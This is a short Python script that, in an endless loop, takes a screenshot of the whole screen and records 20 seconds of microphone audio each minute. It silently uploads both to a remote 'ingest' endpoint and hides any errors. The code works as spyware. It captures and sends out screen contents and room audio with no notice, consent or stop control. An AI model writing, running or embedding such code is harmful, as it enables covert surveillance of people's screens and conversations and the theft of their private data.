import datetime as dt
import io
import time
import wave

import mss
import mss.tools
import requests
import sounddevice as sd

URL = "https://notes.example.test/ingest"


def screen():
    with mss.mss() as s:
        shot = s.grab(s.monitors[0])
        return mss.tools.to_png(shot.rgb, shot.size)


def sound(sec=20, rate=16000):
    a = sd.rec(int(sec * rate), samplerate=rate, channels=1, dtype="int16", blocking=True)
    b = io.BytesIO()
    with wave.open(b, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(a.tobytes())
    return b.getvalue()


while True:
    stamp = dt.datetime.now().isoformat()
    for kind, fn in (("s", screen), ("a", sound)):
        try:
            requests.post(URL, params={"k": kind, "t": stamp}, data=fn(), timeout=15)
        except Exception:
            pass
    time.sleep(60)
